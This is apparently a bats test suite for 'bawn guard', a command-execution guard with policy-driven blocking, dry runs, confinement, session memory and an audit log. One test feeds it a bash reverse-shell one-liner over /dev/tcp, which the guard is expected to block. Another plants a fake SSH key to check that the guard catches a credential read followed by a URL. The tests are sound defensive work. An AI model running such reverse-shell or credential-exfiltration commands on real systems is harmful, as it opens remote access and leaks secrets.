#!/usr/bin/env bats
# bawn guard: acts by verdict, but only once the policy says so.
load common

acting() {
	printf 'enforcement: {enabled: true}\n%s\n' "$1" >"$base/policy.yaml"
}

@test "without a policy everything runs, unconfined, and is recorded" {
	run -0 bawn guard -- sh -c 'echo "$HOME" && ls / >/dev/null'
	[ "$output" = "$HOME" ]
	run -7 bawn guard -- sh -c 'exit 7'
	run -0 bawn audit show --json
	[[ $output == *'"action":"ALLOW"'* ]]
	[[ $output == *'"adapter":"none"'* ]]
	run -0 bawn audit verify
}

@test "a whole line in one word: how a shell gets it is said" {
	run --separate-stderr -127 bawn guard -- 'echo a | cat'
	[[ $stderr == *"what is meant for a shell is run as: sh -c"* ]]
	one_error
}

@test "dry run: a blocked command runs, and the record says what would have been done" {
	printf 'shell: {blocked_commands: ["touch *"]}\n' >"$base/policy.yaml"
	run --separate-stderr -0 bawn guard --policy "$base/policy.yaml" -- touch made
	[ -e made ]
	[[ $stderr == *"dry run"*"with enforcement.enabled: true it would be blocked"* ]]
	printf 'enforcement: {enabled: true, dry_run: true}\n' >>"$base/policy.yaml"
	run --separate-stderr -0 bawn guard --policy "$base/policy.yaml" -- touch made
	[[ $stderr == *"dry run"*"with enforcement.dry_run: false it would be blocked"* ]]
	run -0 bawn audit show --json
	[[ $output == *'"action":"DRY_RUN","would":"block"'* ]]
}

@test "acting: a blocked command does not run, 126" {
	acting 'shell: {blocked_commands: ["touch *"]}'
	run --separate-stderr -126 bawn guard --policy "$base/policy.yaml" -- touch made
	[ ! -e made ]
	one_error
	run -0 bawn audit show --json
	[[ $output == *'"event":"blocked"'*'"action":"BLOCK"'* ]]
}

@test "acting: what is malicious is blocked, what is suspicious runs confined, what is safe runs free" {
	need_run
	acting ''
	run -126 bawn guard --policy "$base/policy.yaml" -- bash -c 'bash -i >& /dev/tcp/192.0.2.1/99 0>&1'
	echo outside >"$base/outside"
	run -0 bawn guard --policy "$base/policy.yaml" -- cat "$base/outside"
	[ "$output" = outside ]
	printf 'enforcement: {enabled: true}\nactions: {SAFE: constrain}\n' >"$base/policy.yaml"
	run ! bawn guard --policy "$base/policy.yaml" -- cat "$base/outside"
	run -0 bawn audit show --json
	[[ $output == *'"action":"CONSTRAIN"'* ]]
}

@test "the terminal, signals and background processes are left alone when let through" {
	run -0 bawn guard -- sh -c 'sleep 300 >/dev/null 2>&1 3>&- & echo $!'
	kill "$output"
	run -143 bawn guard -- sh -c 'kill -TERM $$'
	run -0 sh -c '"$0" guard -- sh -c "sleep 300 & s=\$!; trap \"echo got; kill \$s; exit 0\" TERM; echo ready; wait" >"$1" &
		p=$!; until grep -q ready "$1"; do sleep 0.05; done; kill -TERM $p; wait $p; cat "$1"' "$BAWN" "$base/log"
	[[ $output == *got* ]]
	run -0 sh -c '"$0" guard -- sh -c "sleep 300 & s=\$!; trap \"echo got; kill \$s; exit 0\" USR1; echo ready; wait" >"$1" &
		p=$!; until grep -q ready "$1"; do sleep 0.05; done; kill -USR1 $p; wait $p; cat "$1"' "$BAWN" "$base/second"
	[[ $output == *got* ]]
}

@test "--json keeps the output in the result" {
	run -0 bawn guard --json -- sh -c 'echo out; echo err >&2'
	[[ $(jq -r .stdout <<<"$output") == out ]]
	[[ $(jq -r .stderr <<<"$output") == err ]]
	[[ $(jq -r .action <<<"$output") == ALLOW ]]
	[[ $(jq -r .dry_run <<<"$output") == true ]]
}

@test "not found and no command are told as by run" {
	run --separate-stderr -127 bawn guard -- no-such-command-here
	[[ $stderr == *no-such-command-here* ]]
	run --separate-stderr -125 bawn guard
	[[ $stderr == *"bawn guard --"* ]]
}

@test "a session remembers: sensitive read, then a command with a URL" {
	acting 'actions: {SUSPICIOUS: block}'
	mkdir -p "$HOME/.ssh"; echo key >"$HOME/.ssh/id_rsa"
	run -0 bawn guard --policy "$base/policy.yaml" --session s1 -- echo https://example.org/
	run bawn guard --policy "$base/policy.yaml" --session s1 -- ls "$HOME/.ssh/id_rsa"
	run --separate-stderr -126 bawn guard --policy "$base/policy.yaml" --session s1 -- echo https://example.org/
	[[ $stderr == *"read earlier in this session"* ]]
	run -0 bawn guard --policy "$base/policy.yaml" --session s2 -- echo https://example.org/
}

@test "a session file that was damaged stops the call and says what to do" {
	run -0 bawn guard --session s -- echo .env
	f=$(find "$XDG_STATE_HOME/bawn/sessions" -type f)
	[ "$(stat -c %a "$f")" = 600 ]
	echo x >>"$f"
	run --separate-stderr -125 bawn guard --session s -- echo .env
	[[ $stderr == *"remove it"* ]]
}

@test "what the policy says about suspicious calls of a tool narrows the wall" {
	need_run
	mkdir out
	printf '%s\n' 'enforcement:' '  enabled: true' '  suspicious:' '    Bash:' '      filesystem_writable: [out]' \
		'      network_allow: false' 'actions: {SAFE: constrain}' >"$base/policy.yaml"
	run -0 bawn guard --policy "$base/policy.yaml" --tool Bash -- sh -c 'echo x > out/f; echo y > g || echo refused'
	[[ $output == *refused* ]]
	[ -e out/f ] && [ ! -e g ]
	run -0 bawn guard --policy "$base/policy.yaml" --tool Other -- sh -c 'echo y > g'
	[ -e g ]
	printf '%s\n' 'enforcement: {enabled: true}' 'actions: {SAFE: constrain}' 'tools: {Bash: {enforcement: {adapter: landlock}}}' \
		>"$base/policy.yaml"
	run -0 bawn guard --policy "$base/policy.yaml" --tool Bash --json -- true
	[[ $(jq -r .backend <<<"$output") == landlock ]]
	run -0 bawn guard --policy "$base/policy.yaml" --tool Read --json -- true
	[[ $(jq -r .backend <<<"$output") != landlock ]]
}

@test "options that confine are said not to hold when a command is let through" {
	run --separate-stderr -0 bawn guard --timeout 1m -- true
	[[ $stderr == *"'--timeout' was not in force"* ]]
	run --separate-stderr -0 bawn guard --session s -- true
	[ -z "$stderr" ]
}
